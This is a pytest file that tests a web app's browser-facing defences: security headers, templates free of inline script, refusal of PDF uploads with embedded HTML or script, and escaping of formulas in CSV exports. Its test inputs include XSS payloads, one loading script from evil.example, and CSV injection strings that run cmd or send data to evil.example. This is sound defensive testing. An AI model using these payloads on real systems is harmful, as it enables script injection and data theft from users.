"""Browser-facing defences: security headers, no inline script, safe evidence files, CSV without formulas."""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from matchmaker import db
from matchmaker.exports import safe_cell
from matchmaker.organizations.records import Organization
from tests.fairs.conftest import cluster, make_fair, register_all, wait_schedule  # noqa: F401  (fixtures)
from tests.vetting.conftest import _evidence_dir, incident, world  # noqa: F401  (fixtures)

PDF = b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\n%%EOF\n"
TEMPLATES = Path(__file__).resolve().parents[2] / "matchmaker" / "templates"


def _csp(response) -> dict[str, str]:
    policy = response.headers.get("Content-Security-Policy", "")
    return {d.split()[0]: d.strip() for d in policy.split(";") if d.strip()}


@pytest.mark.parametrize("path", ["/login", "/api/v1/openapi.json", "/no-such-page", "/api/v1/organizations"])
def test_every_response_carries_the_security_headers(client, path):
    r = client.get(path)
    csp = _csp(r)
    assert csp["frame-ancestors"] == "frame-ancestors 'none'"
    assert "'unsafe-inline'" not in r.headers["Content-Security-Policy"]
    assert csp["script-src"] == "script-src 'self'" and csp["object-src"] == "object-src 'none'"
    assert r.headers["X-Frame-Options"] == "DENY"
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    assert r.headers["Referrer-Policy"] == "strict-origin-when-cross-origin"
    assert "Strict-Transport-Security" not in r.headers  # plain HTTP: HSTS would mean nothing


def test_hsts_over_tls_and_behind_a_trusted_proxy_only(app, client):
    assert "max-age=" in client.get("/login", base_url="https://mm.example").headers["Strict-Transport-Security"]
    forwarded = {"X-Forwarded-Proto": "https"}
    assert "Strict-Transport-Security" not in client.get("/login", headers=forwarded).headers  # no proxy trusted
    from matchmaker import create_app
    behind = create_app({**{k: app.config[k] for k in ("TESTING", "SECRET_KEY", "SEARCH_PATH", "MODEL_DIR")},
                         "TRUSTED_PROXIES": 1})
    try:
        r = behind.test_client().get("/login", headers=forwarded)
        assert "max-age=31536000" in r.headers["Strict-Transport-Security"]
    finally:
        behind.extensions["matchmaker.engine"].dispose()


def test_no_template_has_inline_script_style_or_handlers():
    offenders = []
    for path in TEMPLATES.rglob("*.html"):
        text = path.read_text()
        for pattern in (r"<script(?![^>]*\bsrc=)[^>]*>", r"<style", r"\sstyle=", r"\son[a-z]+\s*=", r"javascript:"):
            if re.search(pattern, text, re.IGNORECASE):
                offenders.append(f"{path.relative_to(TEMPLATES)}: {pattern}")
    assert offenders == []


def test_the_pages_script_and_fair_styles_are_served_from_static(client):
    for name in ("app.js", "fairs.css"):
        r = client.get(f"/static/{name}")
        assert r.status_code == 200 and r.data
    html = client.get("/login").get_data(as_text=True)
    assert re.search(r'<script src="/static/app\.js[^"]*" defer></script>', html)


# -- evidence files ------------------------------------------------------------------------------

def _upload(client, w, name, data):
    inc = client.post("/api/v1/vetting/incidents", json=incident(w.buyer_org), headers=w.h[w.reporter]).json
    return client.post(f"/api/v1/vetting/incidents/{inc['id']}/evidence", data={"evidence": (io.BytesIO(data), name)},
                       headers=w.h[w.reporter], content_type="multipart/form-data")


@pytest.mark.parametrize("tail", [
    b"<html><body><script>alert(document.cookie)</script></body></html>",
    b"\n<!DOCTYPE html><p>hi",
    b"<SCRIPT src=//evil.example/x.js></SCRIPT>",
    b"<svg onload=alert(1)>",
    b"<iframe src=javascript:alert(1)>",
    b"1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj",
])
def test_polyglot_evidence_is_refused(client, world, tail):  # noqa: F811  (fixture)
    r = _upload(client, world, "invoice.pdf", PDF + tail)
    assert r.status_code == 422, r.json
    assert r.json["error"]["code"] == "invalid_evidence"
    assert "HTML or script" in r.json["error"]["message"]


def test_polyglot_refusal_is_in_spanish_on_the_page(client, factory, world):  # noqa: F811  (fixture)
    from tests.vetting.conftest import csrf_from, login
    login(client, factory, world.reporter)
    with client.session_transaction() as sess:
        sess["lang"] = "es"
    token = csrf_from(client.get("/vetting/report/incident").get_data(as_text=True))
    r = client.post("/vetting/report/incident", content_type="multipart/form-data", data={
        "csrf_token": token, "subject_id": str(world.buyer_org), "type": "bullying", "severity": "2",
        "occurred_on": "2020-01-01", "description": "Amenazas.",
        "evidence": (io.BytesIO(PDF + b"<html><script>x</script>"), "amenaza.pdf")})
    assert r.status_code == 422
    assert "el archivo también contiene HTML o código ejecutable" in r.get_data(as_text=True)


def test_evidence_is_a_nosniff_sandboxed_attachment(client, world):  # noqa: F811  (fixture)
    w = world
    assert _upload(client, w, "invoice.pdf", PDF).status_code == 201
    from tests.vetting.conftest import open_case
    case_id = open_case(client, w)
    files = client.get(f"/api/v1/vetting/cases/{case_id}", headers=w.h[w.board_2]).json["incidents"][0]["evidence"]
    r = client.get(f"/api/v1/vetting/evidence/{files[0]['id']}", headers=w.h[w.board_2])
    assert r.status_code == 200 and r.data == PDF
    assert r.headers["Content-Disposition"].startswith("attachment;")
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    assert r.headers["Content-Type"] == "application/pdf"
    assert "sandbox" in r.headers["Content-Security-Policy"]


# -- CSV exports ---------------------------------------------------------------------------------

@pytest.mark.parametrize("cell, shown", [
    ('=HYPERLINK("http://evil.example","click")', '\'=HYPERLINK("http://evil.example","click")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Denim Co", "Denim Co"), ("-3", "-3"), ("+1.5", "+1.5"), ("", ""), ("a=b", "a=b"),
])
def test_a_formula_cell_is_shown_as_text(cell, shown):
    assert safe_cell(cell) == shown


def test_schedule_csv_never_carries_a_formula(app, client, cluster):  # noqa: F811
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    with app.app_context():
        db.session().get(Organization, cluster.buyers[0]).name = evil
        db.session().commit()
    fair = make_fair(client, cluster)
    register_all(client, cluster, fair["id"])
    r = client.post(f"/api/v1/fairs/{fair['id']}/schedule", json={"time_limit": 2},
                    headers=cluster.tokens["organizer"])
    assert r.status_code == 202, r.json  # scheduling runs as a job
    wait_schedule(client, cluster, r.get_json()["url"])
    for url in (f"/api/v1/fairs/{fair['id']}/schedule.csv",):
        body = client.get(url, headers=cluster.tokens["organizer"]).get_data(as_text=True)
        rows = list(csv.DictReader(io.StringIO(body)))
        names = {row["buyer_name"] for row in rows}
        assert "'" + evil in names, names
        assert not any(v.startswith(("=", "+", "@")) for row in rows for v in row.values())


def test_vetting_audit_csv_never_carries_a_formula(client, factory, world):  # noqa: F811
    w = world
    evil = factory.token(factory.user("association_staff", None, w.assoc, email="=cmd|'/c calc'!A1@evil.mx"))
    assert _upload(client, w, "invoice.pdf", PDF).status_code == 201
    from tests.vetting.conftest import open_case
    case_id = open_case(client, w)
    files = client.get(f"/api/v1/vetting/cases/{case_id}", headers=evil).json["incidents"][0]["evidence"]
    assert client.get(f"/api/v1/vetting/evidence/{files[0]['id']}", headers=evil).status_code == 200  # audited
    text = client.get("/api/v1/vetting/audit.csv", headers=evil).get_data(as_text=True)
    emails = {row["actor_email"] for row in csv.DictReader(io.StringIO(text))}
    assert "'=cmd|'/c calc'!A1@evil.mx" in emails, emails
